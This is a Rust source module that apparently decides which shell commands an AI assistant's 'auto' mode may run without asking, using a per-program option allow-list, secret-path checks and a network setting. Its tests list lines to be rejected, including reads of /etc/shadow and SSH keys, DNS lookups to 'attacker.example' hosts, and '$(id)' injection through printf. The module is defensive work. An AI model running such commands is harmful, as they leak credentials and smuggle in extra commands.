//! What `ai = "auto"` may run unasked: an allow-list all the way down.
//!
//! A line runs unasked only when it has the plain shape (simple commands
//! joined by `;`, `&&`, `||` and `|`), every word is a plain literal, no
//! command sets variables, redirections only discard output or join
//! descriptors (or read a file that is not a secret), and every command
//! is a program of the table below used with options the table *allows*
//! (read the getopt way: clusters, attached values, `--opt=value`; an
//! abbreviation is not an option it lists, so it asks). Operands that
//! name files are checked against the secret-path model: what a command
//! prints goes to the model's provider. Programs that resolve names or
//! open connections run unasked only with `[ai] auto_network = true`.
//! What it leaves to others: reading the line (`parse`, `unwrap`), the
//! destructive rules (`deny`).

use super::getopt::{Parsed, Spec};
use super::parse::Redirect;
use super::paths::{normalise, secret};
use super::wrappers::Seen;

mod checks;
mod files_and_processes;
mod text_and_services;

use checks::*;

/// Why a line may not run unasked (the policy then asks).
pub(crate) type Why = String;

/// Checks a whole line. `Ok` means it may run unasked.
pub(crate) fn allows(seen: &Seen, network: bool) -> Result<(), Why> {
    let script = &seen.script;
    if let Some(why) = &seen.unknown {
        return Err(why.clone());
    }
    if !script.plain || script.commands.is_empty() {
        return Err("it is not only simple commands joined by ; && || and |".into());
    }
    if seen.runs.len() != script.commands.len() {
        return Err("it runs commands through another program".into());
    }
    for r in &script.redirects {
        redirect(r)?;
    }
    for command in &script.commands {
        if command.assigns > 0 {
            return Err("it sets variables for a command".into());
        }
        let mut words = Vec::with_capacity(command.words.len());
        for w in &command.words {
            match &w.lit {
                Some(v) => words.push(v.as_str()),
                None => return Err(format!("`{}` is not a plain literal", w.raw)),
            }
        }
        program(&words, network)?;
    }
    Ok(())
}

fn redirect(r: &Redirect) -> Result<(), Why> {
    let to_standard = r.target.as_ref().and_then(|t| t.lit.as_deref());
    if r.duplicates() && matches!(to_standard, Some("1" | "2")) {
        return Ok(());
    }
    let target = r.target.as_ref().and_then(|t| t.lit.as_deref());
    match (r.op.as_str(), target) {
        (">" | ">>" | "&>" | "&>>" | ">|", Some("/dev/null")) => Ok(()),
        ("<", Some(file)) => not_secret([file]).map_err(|e| format!("it reads {e}")),
        _ => Err("it redirects to a file".into()),
    }
}

/// Directories whose programs are the system's own: a path elsewhere
/// (`/tmp/ls`) is not the program the table means.
const SYSTEM_BIN: &[&str] = &["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/"];

fn program(words: &[&str], network: bool) -> Result<(), Why> {
    let name = words[0];
    let name = match name.rsplit_once('/') {
        None => name,
        Some((dir, base)) if SYSTEM_BIN.contains(&format!("{dir}/").as_str()) => base,
        Some(_) => return Err(format!("{name} is not a system program")),
    };
    if name == "ip" {
        return ip(&words[1..]);
    }
    // GNU head and tail read `-99999c` as an old-style count with a unit
    // (the next word a file), where a getopt reading makes it digits and
    // `-c` taking the next word as its value: the file would go unjudged.
    if matches!(name, "head" | "tail")
        && let Some(w) = words[1..].iter().find(|w| old_count_with_unit(w))
    {
        return Err(format!("{w}: an old-style count with a unit"));
    }
    let mut first_error = None;
    for entry in table().filter(|e| e.names.contains(&name)) {
        if entry.network && !network {
            first_error
                .get_or_insert_with(|| format!("{name} resolves names or opens connections"));
            continue;
        }
        let parsed = match entry.spec {
            Some(spec) => Spec {
                long_attached: true,
                ..spec
            }
            .parse(&words[1..])
            .map_err(|e| format!("{e} is not on {name}'s read-only list")),
            None => Ok(Parsed {
                operands: words[1..].iter().map(|w| w.to_string()).collect(),
                ..Parsed::default()
            }),
        };
        match parsed.and_then(|p| (entry.check)(&p).map_err(|e| format!("{name}: {e}"))) {
            Ok(()) => return Ok(()),
            Err(e) => {
                first_error.get_or_insert(e);
            }
        }
    }
    Err(first_error.unwrap_or_else(|| format!("{name} is not on the read-only list")))
}

/// Every program of the table that reads options, with its spec as
/// [`program`] applies it: for the check against the real programs.
#[cfg(test)]
pub(super) fn specs() -> impl Iterator<Item = (&'static [&'static str], Spec)> {
    table().filter_map(|e| {
        let spec = e.spec?;
        Some((
            e.names,
            Spec {
                long_attached: true,
                ..spec
            },
        ))
    })
}

/// `-5c`, `-10lf`: digits, then letters, in one word.
fn old_count_with_unit(word: &str) -> bool {
    let Some(rest) = word.strip_prefix('-') else {
        return false;
    };
    let letters = rest.trim_start_matches(|c: char| c.is_ascii_digit());
    letters.len() < rest.len() && !letters.is_empty()
}

/// The table: every program `auto` may run, in two files by what they
/// look at.
fn table() -> impl Iterator<Item = &'static Entry> {
    files_and_processes::TABLE
        .iter()
        .chain(text_and_services::TABLE)
}

/// One program of the table.
struct Entry {
    names: &'static [&'static str],
    /// `None`: every word is an operand (`echo`, `test`: options are
    /// text to them).
    spec: Option<Spec>,
    /// Resolves names or opens connections.
    network: bool,
    /// What its operands and option values may be.
    check: Check,
}

/// A check of operands and option values.
type Check = fn(&Parsed) -> Result<(), Why>;

/// A program with options read by `spec`.
const fn entry(names: &'static [&'static str], spec: Spec, check: Check) -> Entry {
    Entry {
        names,
        spec: Some(spec),
        network: false,
        check,
    }
}

/// A program whose every word is an operand.
const fn words(names: &'static [&'static str], check: Check) -> Entry {
    Entry {
        spec: None,
        ..entry(names, Spec::short("", ""), check)
    }
}

/// A program that resolves names or opens connections.
const fn net(names: &'static [&'static str], spec: Spec, check: Check) -> Entry {
    Entry {
        network: true,
        ..entry(names, spec, check)
    }
}

impl Spec {
    /// Long options that always take a value (see `long_required`).
    const fn requiring(self, long_required: &'static [&'static str]) -> Spec {
        Spec {
            long_required,
            ..self
        }
    }

    /// systemctl's value options without `-H`/`-M` (another host or
    /// machine).
    const fn with_values(self, values: &'static str) -> Spec {
        Spec { values, ..self }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wrappers::see;

    fn auto(line: &str) -> Result<(), Why> {
        allows(&see(line), false)
    }

    #[test]
    fn what_a_responder_reaches_for_first_runs() {
        for line in [
            "df -h",
            "free -m",
            "uptime",
            "ps aux --sort=-%mem",
            "ss -tlnp",
            "systemctl status nginx --no-pager",
            "journalctl -u nginx -n 50 --no-pager",
            "tail -n 100 /var/log/syslog",
            "grep -i error /var/log/nginx/error.log",
            "ls -la /etc/nginx",
            "ps aux | grep nginx | head -5",
            "df -h; free -m",
            "ip addr show",
            "ip -s link",
            "ip route get 1.1.1.1",
            "cat /etc/os-release",
            "vmstat 1 3",
            "dmesg -T | tail -n 50",
            "tail -n 100 /var/log/syslog 2>/dev/null",
            "ps -eo pid,comm,%mem --sort=-%mem | head",
            "getent passwd www-data",
            "date +%s",
            "lsof -nP -i :80",
        ] {
            assert_eq!(auto(line), Ok(()), "{line}");
        }
    }

    #[test]
    fn anything_else_asks() {
        for line in [
            "sort -o/etc/passwd x",
            "sort -uo out in",
            "sort --out=x in",
            "sort --compress-program=sh x",
            "chmod --rec 777 /tmp",
            "ss -D /tmp/x",
            "ip -batch -",
            "file -C",
            "systemctl -p status restart sshd",
            "ip route dele default",
            "ip r s",
            "uniq - /etc/passwd",
            "cat /etc/shadow-",
            "grep -r . /root/.ssh",
            "cat /etc/ssh/ssh_host_ed25519_key",
            "ps auxeww",
            "echo $SOME_SECRET",
            "host secret.attacker.example",
            "getent hosts x.evil",
            "getent ${X:-shadow}",
            "getent shadow",
            "printf $'-v' 'a[$(id)]' x",
            "printf -v x y",
            "/tmp/ls",
            "ls > /tmp/x",
            "X=1 ls",
            "ls &",
            "tail -f /var/log/syslog",
            "vmstat 1",
            "netstat -tlp",
            "date 01010000",
            "sudo ls",
            "systemctl -H web2 status",
            "journalctl -f",
            "cat < /etc/shadow",
            "lsof -i :80",
        ] {
            assert!(auto(line).is_err(), "{line}");
        }
    }

    #[test]
    fn the_network_is_a_setting() {
        assert!(auto("host example.com").is_err());
        assert_eq!(allows(&see("host example.com"), true), Ok(()));
        assert_eq!(allows(&see("ping -c 1 example.com"), true), Ok(()));
    }
}
